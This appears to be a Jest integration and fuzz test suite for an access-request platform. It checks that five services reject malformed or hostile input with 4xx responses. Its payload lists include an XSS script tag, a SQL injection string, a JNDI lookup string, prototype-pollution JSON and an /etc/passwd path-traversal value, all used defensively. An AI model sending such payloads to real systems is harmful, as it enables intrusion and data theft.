import { randomUUID } from 'node:crypto';
import type { INestApplication } from '@nestjs/common';
import { FORWARDS, START, EventStoreDBClient } from '@eventstore/db-client';
import request from 'supertest';
import { loadConfig, type Config, type ConfigSpec } from '@kairos/config';
import { createServiceApp } from '@kairos/http';
import * as testing from '@kairos/testing';
import { authEnv, createTestDatabase, startTestEventStore, startTestIssuer, startTestKafka, type TestDatabase, type TestIssuer } from '@kairos/testing';
// Apps are built in-process exactly as the platform runs them; only tests and tools reach into apps.
// eslint-disable-next-line @nx/enforce-module-boundaries
import { ApprovalPolicyServiceModule } from '../../apps/approval-policy-service/src/approval-policy-service.module';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { config as policyConfig } from '../../apps/approval-policy-service/src/config';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { AuditProjectorModule } from '../../apps/audit-projector/src/audit-projector.module';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { config as auditConfig } from '../../apps/audit-projector/src/config';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { config as expiryConfig } from '../../apps/expiry-scheduler/src/config';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { ExpirySchedulerModule } from '../../apps/expiry-scheduler/src/expiry-scheduler.module';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { config as provisioningConfig } from '../../apps/provisioning-connector/src/config';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { ProvisioningConnectorModule } from '../../apps/provisioning-connector/src/provisioning-connector.module';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { config as requestConfig } from '../../apps/request-service/src/config';
// eslint-disable-next-line @nx/enforce-module-boundaries
import { RequestServiceModule } from '../../apps/request-service/src/request-service.module';
import { ensureKairosTopics } from '@kairos/messaging';

/**
 * Every service built in-process as the platform runs it (createServiceApp), on real PostgreSQL,
 * the local EventStoreDB-compatible server and Kafka broker. First the attacks found against the
 * running services, each by name; then every write route of every OpenAPI document, fed hostile
 * bodies and path values with an admin token: none may answer 5xx.
 */

type Service = 'request-service' | 'approval-policy-service' | 'provisioning-connector' | 'expiry-scheduler' | 'audit-projector';

// Signed Kafka messages need keys where the platform has them; an older platform ignores the variables.
const messageKeyEnv = (service: Service): Record<string, string> => {
  const keys = (testing as { testMessageKeys?: () => { env(service: string): Record<string, string> } }).testMessageKeys;
  if (!keys) return {};
  try {
    return keys().env(service);
  } catch {
    return {}; // not a Kafka producer (audit-projector reads EventStoreDB only)
  }
};

/** A tiny deterministic generator (mulberry32), so a failing case is the same on every run. */
function prng(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return { pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!, next };
}

const nest = (depth: number): unknown => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
};

/** Values of every wrong kind, sent where a property's value belongs. */
const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  2 ** 53 + 1,
  '',
  ' ',
  'x'.repeat(100_000),
  'nul\u0000inside',
  'lone \ud800 surrogate',
  '\udfff',
  '😀'.repeat(300),
  '<script>alert(1)</script>',
  "'; DROP TABLE identities; --",
  '${jndi:ldap://evil}',
  'P99999999999999999999D',
  'PT0S',
  '-P1D',
  '9999-12-31T23:59:59.999Z',
  '+275760-09-13T00:00:00.000Z',
  [],
  [null],
  ['a', 1, null, {}],
  new Array(2_000).fill('x'),
  {},
  { a: 1 },
  nest(40),
  nest(20),
];

/** Raw JSON texts sent as the whole body, for shapes JSON.stringify cannot make (prototype keys, big numbers). */
const HOSTILE_TEXTS: readonly string[] = [
  'null',
  'true',
  '42',
  '"a string"',
  '[]',
  '[{}]',
  '{}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":1e999}',
  '{"a":-1e999}',
  `{"a":${'1'.repeat(400)}}`,
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `{"items":[${new Array(50_000).fill('0').join(',')}]}`,
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  '{"\\u0000":1}',
  '{"a":1,"a":2}',
  '{"a":',
  '\u0000',
  '\ufeff{}',
];

const HOSTILE_PATH_VALUES = ['%00', 'a%00b', '%ED%A0%80', '%FF', 'x'.repeat(5_000), '..%2F..%2Fetc%2Fpasswd', '%F0%9F%98%80', '-1', '99999999999999999999', 'null', '__proto__'];

interface OpenApiDoc {
  paths: Record<string, Record<string, { requestBody?: { content?: Record<string, { schema?: Schema }> } }>>;
  components?: { schemas?: Record<string, Schema> };
}
interface Schema {
  $ref?: string;
  type?: string;
  enum?: unknown[];
  example?: unknown;
  minimum?: number;
  items?: Schema;
  properties?: Record<string, Schema>;
  allOf?: Schema[];
}

/** A plausible body from the operation's schema (examples, first enum values), the base hostile values replace parts of. */
function sample(doc: OpenApiDoc, schema: Schema | undefined, depth = 0): unknown {
  if (!schema || depth > 6) return 'x';
  if (schema.$ref) return sample(doc, doc.components?.schemas?.[schema.$ref.split('/').pop()!], depth + 1);
  if (schema.allOf) return Object.assign({}, ...schema.allOf.map((part) => sample(doc, part, depth + 1) as object));
  if (schema.example !== undefined) return schema.example;
  if (schema.enum?.length) return schema.enum[0];
  switch (schema.type) {
    case 'integer':
    case 'number':
      return schema.minimum ?? 1;
    case 'boolean':
      return false;
    case 'array':
      return [sample(doc, schema.items, depth + 1)];
    case 'string':
      return 'fuzz';
    default:
      return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, property]) => [name, sample(doc, property, depth + 1)]));
  }
}

describe('every service at its HTTP edge', () => {
  let db: TestDatabase;
  let kafka: Awaited<ReturnType<typeof startTestKafka>>;
  let eventstore: Awaited<ReturnType<typeof startTestEventStore>>;
  let issuer: TestIssuer;
  let esdb: EventStoreDBClient;
  const apps = {} as Record<Service, INestApplication>;
  const t: Record<string, string> = {};

  const api = (service: Service) => request(apps[service].getHttpServer());
  const as = (token: string) => ({ authorization: `Bearer ${token}` });
  const expectProblem = (res: request.Response, status: number) => {
    expect({ status: res.status, body: res.body }).toMatchObject({ status, body: { status } });
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
  };
  const streamTypes = async (id: string) => {
    const types: string[] = [];
    for await (const e of esdb.readStream(`access-request-${id}`, { fromRevision: START, direction: FORWARDS })) types.push(e.event!.type);
    return types;
  };
  const seededIdentities = [
    { id: 'root', kind: 'person', displayName: 'Root' },
    { id: 'maria', kind: 'person', displayName: 'Maria' },
    { id: 'alice', kind: 'person', displayName: 'Alice', managerId: 'maria', groups: ['payments'] },
    { id: 'bob', kind: 'person', displayName: 'Bob' },
  ];

  beforeAll(async () => {
    [db, kafka, eventstore, issuer] = await Promise.all([createTestDatabase(), startTestKafka(), startTestEventStore(), startTestIssuer()]);
    // Topics exist because setup made them: the services never create any (issue 14).
    await ensureKairosTopics(kafka.brokers);
    esdb = EventStoreDBClient.connectionString(eventstore.connectionString);
    const common = { ...authEnv(issuer), DATABASE_URL: db.url, KAFKA_BROKERS: kafka.brokers.join(','), LOG_LEVEL: 'error', PORT: '0', EVENTSTORE_URL: eventstore.connectionString };
    const build = async <S extends ConfigSpec>(service: Service, spec: S, extra: Record<string, string>, module: (config: Config<S>) => object) => {
      const app = await createServiceApp(module(loadConfig(spec, { ...common, ...messageKeyEnv(service), ...extra })), { title: service, description: service });
      return app;
    };
    apps['approval-policy-service'] = await build('approval-policy-service', policyConfig, {}, (c) => ApprovalPolicyServiceModule.forRoot(c));
    await apps['approval-policy-service'].listen(0, '127.0.0.1');
    await ApprovalPolicyServiceModule.startInbox(apps['approval-policy-service']);
    const policyUrl = `http://127.0.0.1:${apps['approval-policy-service'].getHttpServer().address().port}`;
    apps['request-service'] = await build('request-service', requestConfig, { EVENTSTORE_URL: eventstore.connectionString, APPROVAL_POLICY_URL: policyUrl }, (c) =>
      RequestServiceModule.forRoot(c),
    );
    apps['provisioning-connector'] = await build('provisioning-connector', provisioningConfig, { TARGET_POSTGRES_URL: db.url }, (c) => ProvisioningConnectorModule.forRoot(c));
    apps['expiry-scheduler'] = await build('expiry-scheduler', expiryConfig, {}, (c) => ExpirySchedulerModule.forRoot(c));
    apps['audit-projector'] = await build('audit-projector', auditConfig, { EVENTSTORE_URL: eventstore.connectionString }, (c) => AuditProjectorModule.forRoot(c));
    await Promise.all(Object.values(apps).map((app) => app.init()));
    await RequestServiceModule.startInbox(apps['request-service']);

    t.admin = await issuer.token('root', ['admin', 'requester', 'approver', 'auditor']);
    t.alice = await issuer.token('alice', ['requester']);
    for (const identity of seededIdentities) {
      expect((await api('approval-policy-service').post('/v1/identities').set(as(t.admin)).send(identity)).status).toBe(201);
    }
    const billing = { id: 'billing', name: 'Billing', connector: 'manual', target: 'billing', owners: ['bob'], allowedRoles: ['viewer'], tier: 1 };
    expect((await api('approval-policy-service').post('/v1/resources').set(as(t.admin)).send(billing)).status).toBe(201);
  }, 180_000);

  afterAll(async () => {
    await Promise.all(Object.values(apps).map((app) => app.close()));
    await esdb?.dispose();
    await Promise.all([kafka?.close(), eventstore?.close(), issuer?.close()]);
    await db?.drop();
  }, 120_000);

  describe('request-service', () => {
    const submit = (body: object) => api('request-service').post('/v1/access-requests').set(as(t.alice!)).send(body);
    const pending = async () => {
      const res = await submit({ items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'INC-7: reconcile invoices', duration: 'PT1H' });
      expect(res.status).toBe(201);
      return res.body.requestId as string;
    };

    it('refuses reason: null on cancel with 400, and no cancellation is recorded', async () => {
      const id = await pending();
      const res = await api('request-service').post(`/v1/access-requests/${id}/cancel`).set(as(t.alice!)).send({ reason: null });
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([{ field: 'reason', messages: expect.arrayContaining(['reason must be a string']) }]);
      expect(await streamTypes(id)).not.toContain('AccessRequestCancelled');
      // The same cancel without the null is fine: the refusal was about the null only.
      expect((await api('request-service').post(`/v1/access-requests/${id}/cancel`).set(as(t.alice!)).send({ reason: 'not needed' })).status).toBe(200);
    });

    it('refuses an extension by P99999999999999999999D with 400: duration out of range', async () => {
      const id = await pending();
      const res = await api('request-service').post(`/v1/access-requests/${id}/extend`).set(as(t.alice!)).send({ itemId: 'i1', by: 'P99999999999999999999D' });
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([{ field: 'by', messages: [expect.stringMatching(/out of range/)] }]);
    });

    it('refuses a request for P99999999999999999999D with 400', async () => {
      const res = await submit({ items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'forever', duration: 'P99999999999999999999D' });
      expectProblem(res, 400);
      expect(res.body.errors[0].messages[0]).toMatch(/out of range/);
    });

    it('says a missing justification is required', async () => {
      const res = await submit({ items: [{ resourceId: 'billing', role: 'viewer' }], duration: 'PT1H' });
      expectProblem(res, 400);
      expect(res.body.errors).toEqual([{ field: 'justification', messages: ['justification is required'] }]);
    });

    it('refuses a form-encoded body that would create a request with 415', async () => {
      const res = await api('request-service')
        .post('/v1/access-requests')
        .set(as(t.alice!))
        .type('form')
        .send('items[0][resourceId]=billing&items[0][role]=viewer&justification=form&duration=PT1H');
      expectProblem(res, 415);
    });

    it('refuses application/json; charset=latin1 with 415', async () => {
      const res = await api('request-service')
        .post('/v1/access-requests')
        .set(as(t.alice!))
        .set('content-type', 'application/json; charset=latin1')
        .send(Buffer.from('{"items":[{"resourceId":"billing","role":"viewer"}],"justification":"caf\xe9","duration":"PT1H"}', 'latin1'));
      expectProblem(res, 415);
    });

    it('refuses a NUL or a lone surrogate in justification, ticket or ids with 400, before anything is recorded', async () => {
      for (const body of [
        { items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'INC\u00001', duration: 'PT1H' },
        { items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'INC \ud800', duration: 'PT1H' },
        { items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'ok', ticket: 'T-\u0000', duration: 'PT1H' },
        { items: [{ resourceId: 'bill\u0000ing', role: 'viewer' }], justification: 'ok', duration: 'PT1H' },
      ]) {
        const res = await api('request-service').post('/v1/access-requests').set(as(t.alice!)).set('content-type', 'application/json').send(JSON.stringify(body));
        expectProblem(res, 400);
      }
      const mine = await api('request-service').get('/v1/access-requests?requester=alice&limit=200').set(as(t.alice!));
      expect(JSON.stringify(mine.body)).not.toMatch(/\\u0000|\\ud800/);
    });

    it('refuses %00 in a request id path with 400', async () => {
      expectProblem(await api('request-service').get('/v1/access-requests/%00').set(as(t.alice!)), 400);
      expectProblem(await api('request-service').post('/v1/access-requests/abc%00/cancel').set(as(t.alice!)).send({}), 400);
    });

    it('refuses a body over the limit with 413 and a JSON array of 100,000 items with 413', async () => {
      expectProblem(await submit({ items: [{ resourceId: 'billing', role: 'viewer' }], justification: 'x'.repeat(2 * 1024 * 1024) }), 413);
      expectProblem(await submit({ items: new Array(100_000).fill({ resourceId: 'billing', role: 'viewer' }), justification: 'x' }), 413);
      const smallEnough = await api('request-service')
        .post('/v1/access-requests')
        .set(as(t.alice!))
        .set('content-type', 'application/json')
        .send(`{"items":[${new Array(100_000).fill('0').join(',')}],"justification":"x"}`);
      expectProblem(smallEnough, 413);
    });

    it('refuses JSON nested 10,000 levels deep with 400', async () => {
      const res = await api('request-service')
        .post('/v1/access-requests')
        .set(as(t.alice!))
        .set('content-type', 'application/json')
        .send(`{"justification":"x","items":${'['.repeat(10_000)}${']'.repeat(10_000)}}`);
      expectProblem(res, 400);
    });
  });

  describe('approval-policy-service', () => {
    it('refuses a policy evaluation without requester with 400, not a TypeError', async () => {
      const res = await api('approval-policy-service')
        .post('/v1/policy/evaluations')
        .set(as(t.admin!))
        .send({ items: [{ itemId: 'i1', resourceId: 'billing', role: 'viewer' }], justification: 'x', breakGlass: false });
      expectProblem(res, 400);
      expect(res.body.errors).toEqual(expect.arrayContaining([{ field: 'requester', messages: ['requester is required'] }]));
    });

    it('refuses a policy evaluation whose requester is not an object with 400', async () => {
      for (const requester of [null, 'alice', ['alice'], 42]) {
        const res = await api('approval-policy-service')
          .post('/v1/policy/evaluations')
          .set(as(t.admin!))
          .send({ requester, items: [], justification: 'x', breakGlass: false });
        expectProblem(res, 400);
      }
    });

    it('answers concurrent directory imports with 200 (or 409), never 500, and the directory is one of them whole', async () => {
      // The same people in opposite orders, each import naming and grouping them its own way: the
      // writes contend for the same rows in different orders, which deadlocks without serialisation.
      const people = Array.from({ length: 60 }, (_, i) => i);
      const imports = Array.from({ length: 6 }, (_, n) => ({
        identities: [
          ...(n % 2 === 0 ? people : [...people].reverse()).map((i) => ({ id: `p-${i}`, kind: 'person', displayName: `Person ${i} of import ${n}`, groups: [`g${(i + n) % 5}`] })),
          ...seededIdentities,
        ],
        groups: (n % 2 === 0 ? [0, 1, 2, 3, 4] : [4, 3, 2, 1, 0]).map((i) => ({ id: `g${i}`, name: `Group ${i} of import ${n}` })),
      }));
      // Start from a directory without memberships, so no import waits on another's first DELETE.
      const bare = { identities: [...seededIdentities.map(({ groups: _groups, ...identity }) => identity), ...people.map((i) => ({ id: `p-${i}`, kind: 'person', displayName: `Person ${i}` }))] };
      expect((await api('approval-policy-service').post('/v1/directory/import').set(as(t.admin!)).send(bare)).status).toBe(200);
      const answers = await Promise.all(imports.map((body) => api('approval-policy-service').post('/v1/directory/import').set(as(t.admin!)).send(body)));
      expect(answers.map((res) => (res.status === 200 || res.status === 409 ? 'ok' : `${res.status} ${JSON.stringify(res.body)}`))).toEqual(answers.map(() => 'ok'));
      expect(answers.some((res) => res.status === 200)).toBe(true);
      const identities = (await api('approval-policy-service').get('/v1/identities').set(as(t.admin!))).body.items as { id: string; displayName: string; groups: string[] }[];
      const imported = identities.filter((identity) => identity.id.startsWith('p-'));
      const winner = Number(/of import (\d)/.exec(imported[0]!.displayName)![1]);
      expect(imported).toHaveLength(people.length);
      for (const identity of imported) {
        const i = Number(identity.id.slice(2));
        expect({ id: identity.id, displayName: identity.displayName, groups: identity.groups }).toEqual({ id: `p-${i}`, displayName: `Person ${i} of import ${winner}`, groups: [`g${(i + winner) % 5}`] });
      }
    });

    it('refuses %00 in resource, identity and group ids with 400', async () => {
      for (const path of ['/v1/resources/a%00b', '/v1/identities/%00', '/v1/groups/g%00']) {
        expectProblem(await api('approval-policy-service').get(path).set(as(t.admin!)), 400);
        expectProblem(await api('approval-policy-service').delete(path).set(as(t.admin!)), 400);
      }
    });

    it('refuses a NUL in a directory import, JSON or CSV, with 400', async () => {
      const json = { identities: [...seededIdentities, { id: 'eve', kind: 'person', displayName: 'Eve\u0000Admin' }] };
      expectProblem(await api('approval-policy-service').post('/v1/directory/import').set(as(t.admin!)).send(json), 400);
      const csv = 'id,kind,displayName,email,managerId,groups\nroot,person,Root,,,\neve,person,Eve\u0000,,,\n';
      expectProblem(await api('approval-policy-service').post('/v1/directory/import').set(as(t.admin!)).set('content-type', 'text/csv').send(csv), 400);
      expect((await api('approval-policy-service').get('/v1/identities/eve').set(as(t.admin!))).status).toBe(404);
    });
  });

  describe('provisioning-connector, expiry-scheduler and audit-projector', () => {
    it('refuse %00 in path ids and queries with 400', async () => {
      expectProblem(await api('provisioning-connector').post(`/v1/tickets/${randomUUID()}%00/complete`).set(as(t.admin!)).send({ comment: 'x' }), 400);
      expectProblem(await api('provisioning-connector').post(`/v1/tickets/${randomUUID()}/complete`).set(as(t.admin!)).send({ comment: 'done\u0000' }), 400);
      expectProblem(await api('expiry-scheduler').get('/v1/timers?requestId=a%00b').set(as(t.admin!)), 400);
      expectProblem(await api('audit-projector').get('/v1/audit/identities/a%00b/holdings?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z').set(as(t.admin!)), 400);
      expectProblem(await api('audit-projector').get('/v1/audit/access?resourceId=db%00&at=2026-01-01T00:00:00Z').set(as(t.admin!)), 400);
    });
  });

  describe('a fuzz of every write route in every OpenAPI document', () => {
    const random = prng(0x6b41);
    const services: Service[] = ['request-service', 'approval-policy-service', 'provisioning-connector', 'expiry-scheduler', 'audit-projector'];

    it('never answers 5xx to hostile bodies and path values sent with an admin token', async () => {
      const failures: string[] = [];
      let operations = 0;
      let sent = 0;
      for (const service of services) {
        const doc = (await api(service).get('/docs-json')).body as OpenApiDoc;
        for (const [template, methods] of Object.entries(doc.paths)) {
          for (const [method, operation] of Object.entries(methods)) {
            if (!['post', 'put', 'patch', 'delete'].includes(method)) continue;
            operations++;
            const content = operation.requestBody?.content ?? {};
            const jsonSchema = content['application/json']?.schema;
            const base = jsonSchema ? sample(doc, jsonSchema) : {};
            const path = (value: () => string) => template.replace(/\{[^}]+\}/g, value);
            const validPath = () => path(() => (service === 'request-service' || service === 'provisioning-connector' ? randomUUID() : `fuzz-${sent}`));
            const cases: { path: string; body: string }[] = [];
            for (const text of HOSTILE_TEXTS) cases.push({ path: validPath(), body: text });
            for (const value of HOSTILE_VALUES) cases.push({ path: validPath(), body: JSON.stringify(value) });
            if (base && typeof base === 'object' && !Array.isArray(base)) {
              for (const property of Object.keys(base)) {
                const { [property]: _left, ...without } = base as Record<string, unknown>;
                cases.push({ path: validPath(), body: JSON.stringify(without) });
                for (let i = 0; i < 6; i++) cases.push({ path: validPath(), body: JSON.stringify({ ...base, [property]: random.pick(HOSTILE_VALUES) }) });
                const nested = (base as Record<string, unknown>)[property];
                if (Array.isArray(nested) && nested[0] && typeof nested[0] === 'object') {
                  for (const inner of Object.keys(nested[0] as object)) {
                    cases.push({ path: validPath(), body: JSON.stringify({ ...base, [property]: [{ ...(nested[0] as object), [inner]: random.pick(HOSTILE_VALUES) }] }) });
                  }
                }
              }
              cases.push({ path: validPath(), body: JSON.stringify({ ...base, unexpected: 'extra property' }) });
              cases.push({ path: validPath(), body: JSON.stringify(base).replace(/^\{/, '{"__proto__":{"isAdmin":true},') });
              cases.push({ path: validPath(), body: JSON.stringify(base) });
            }
            if (template.includes('{')) {
              for (const value of HOSTILE_PATH_VALUES) cases.push({ path: path(() => value), body: JSON.stringify(base) });
            }
            for (const { path: target, body } of cases) {
              sent++;
              const res = await api(service)
                [method as 'post' | 'put' | 'delete'](target)
                .set(as(t.admin!))
                .set('content-type', 'application/json')
                .send(body);
              if (res.status >= 500 || !res.headers['content-type']?.includes('json')) {
                failures.push(`${service} ${method.toUpperCase()} ${target.slice(0, 80)} ${body.slice(0, 120)} → ${res.status} ${JSON.stringify(res.body).slice(0, 200)}`);
              }
            }
          }
        }
      }
      expect(failures).toEqual([]);
      // Every write route was reached: request-service 5, approval-policy-service 13, provisioning-connector 2.
      expect(operations).toBeGreaterThanOrEqual(20);
      expect(sent).toBeGreaterThan(1_000);
      expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    }, 120_000);
  });
});
